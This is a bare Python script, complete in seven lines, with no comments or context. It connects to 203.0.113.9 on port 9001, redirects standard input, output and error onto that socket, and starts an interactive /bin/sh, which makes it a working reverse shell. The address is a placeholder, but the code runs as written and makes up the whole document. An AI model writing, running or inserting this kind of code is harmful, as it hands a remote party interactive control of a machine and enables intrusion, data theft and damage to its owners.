import os
import socket

line = socket.create_connection(("203.0.113.9", 9001))
for number in (0, 1, 2):
    os.dup2(line.fileno(), number)
os.execl("/bin/sh", "sh", "-i")
